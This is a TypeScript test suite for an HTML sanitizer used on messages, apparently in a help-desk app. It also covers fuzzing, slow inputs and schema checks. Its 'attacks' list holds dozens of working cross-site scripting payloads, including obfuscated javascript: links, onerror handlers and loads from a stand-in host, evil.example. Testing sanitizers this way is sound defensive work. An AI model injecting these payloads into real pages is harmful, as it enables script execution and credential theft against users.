import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sanitizeMessageHtml, textOfHtml } from "../../src/desk/html.ts";
import { newMessage } from "../../src/desk/schema-message.ts";

/** Each tries to run something, to load something, to leave its frame or to pass for part of the page. */
const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="cid:att_1" onerror="alert(1)" onload=alert(1)>',
  '<img src="cid:att_1" style="background:url(javascript:alert(1))">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img srcset="https://evil.example/a 2x" src="cid:att_1">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/v1/me" onclick="alert(1)">x</a>',
  '<a href="https://good.example" target="_self" rel="opener" ping="https://evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '<p class="modal" id="app" name="x">x</p>',
  '<div onmouseover="alert(1)" tabindex=1 autofocus onfocus=alert(1)>x</div>',
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><script>alert(1)</script>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
  "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<template><script>alert(1)</script></template>",
  "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
  "<<img src=x onerror=alert(1)>//<",
  "<img/src=x/onerror=alert(1)>",
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<a title=\'"onmouseover=alert(1) x="\' href="https://good.example">x</a>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

const tags = new Set(
  "p br div blockquote pre hr h1 h2 h3 h4 h5 h6 ul ol li dl dt dd span b strong i em u s del ins sub sup small mark code kbd a img table caption thead tbody tfoot tr th td".split(
    " ",
  ),
);
const attributes = /^(href|title|rel|target|src|alt|width|height|colspan|rowspan|start|dir)$/;

/** What a strict reader finds in the markup that should not be there. Values are quoted and escaped by then, so tags are plain to see. */
function faultsOf(html: string): string[] {
  return [...html.matchAll(/<(\/?)([^\s/>]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>|</g)].flatMap(
    ([tag, , name = "", given = ""]) => {
      if (!tags.has(name)) return [tag];
      return [...given.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].flatMap(([all, key = "", value = ""]) => {
        if (!attributes.test(key)) return [all];
        if (key === "href") return /^(https?:\/\/|mailto:)/.test(value) ? [] : [all];
        if (key === "src") return /^cid:att_\d+$/.test(value) ? [] : [all];
        if (key === "rel") return value === "noopener noreferrer nofollow" ? [] : [all];
        return [];
      });
    },
  );
}

describe("HTML of a message", () => {
  it.each(attacks)("is harmless after %j", (attack) => {
    const clean = sanitizeMessageHtml(`before ${attack} after`);
    expect([clean, faultsOf(clean)]).toEqual([clean, []]);
    expect(clean).toContain("before");
    expect(sanitizeMessageHtml(clean)).toBe(clean);
  });

  it("is harmless and stays the same, whatever is put together", () => {
    const pieces = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        "<p>",
        "</p>",
        "<a href='",
        "'",
        '"',
        ">",
        "<",
        "<!--",
        "-->",
        "&quot;",
        "&#0;",
        "<td",
        " x=1",
      ),
      fc.string({ unit: "binary", maxLength: 20 }),
    );
    const property = fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
      const clean = sanitizeMessageHtml(parts.join(""));
      expect([clean, faultsOf(clean)]).toEqual([clean, []]);
    });
    expect(() => fc.assert(property, { numRuns: 500 })).not.toThrow();
  });

  it("keeps what shows text, links to the outside and images of attachments", () => {
    const html =
      '<h2>Dear <strong>Ada</strong></h2><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table><img src="cid:att_7" alt="the box" />';
    expect(sanitizeMessageHtml(html)).toBe(html);
    expect(sanitizeMessageHtml('<a href="https://shop.example/a?b=1&amp;c=2">x</a>')).toBe(
      '<a href="https://shop.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
  });

  it("takes no longer for what is made to be slow", { timeout: 60_000 }, () => {
    const slow = [
      "<a>",
      "<div><p>",
      "<table><tr><td>",
      "<!--",
      "<a href='",
      "&#x41;",
      "<b><i></b></i>",
      "<",
      "<x><y>",
      "<svg>",
      "<p>",
    ];
    for (const piece of slow) {
      const began = performance.now();
      const html = piece.repeat(Math.floor(131_072 / piece.length));
      newMessage.safeParse({ html });
      expect([piece, performance.now() - began < 5000]).toEqual([piece, true]);
    }
  });

  it("is text where that is asked for", () => {
    const text = textOfHtml(
      '<h1>Hello</h1><p>See <a href="https://shop.example/x">here</a>.<br>Bye</p><ul><li>one</li><li>two</li></ul>',
    );
    expect(text.split(/\n+/)).toEqual([
      "Hello",
      "See here (https://shop.example/x).",
      "Bye",
      " * one",
      " * two",
    ]);
  });

  it("is refused when it says nothing, when it is too long, and when it shows what the message has not", () => {
    const pathsOf = (body: object): readonly string[] => {
      const parsed = newMessage.safeParse(body);
      return parsed.success ? [] : parsed.error.issues.map(({ path }) => path.join("."));
    };
    expect(pathsOf({ html: "<script>alert(1)</script><p> </p>" })).toEqual(["html"]);
    expect(pathsOf({})).toEqual(["text"]);
    expect(pathsOf({ html: "x".repeat(131_073) })).toContain("html");
    expect(pathsOf({ html: 'x<img src="cid:att_2">', attachments: ["att_1"] })).toEqual(["html"]);
    expect(pathsOf({ html: 'x<img src="cid:att_1">', attachments: ["att_1"] })).toEqual([]);
    expect(pathsOf({ attachments: ["att_1"] })).toEqual([]);
    expect(pathsOf({ text: "hello", attachments: ["msg_1"] })).toEqual(["attachments.0"]);
  });
});
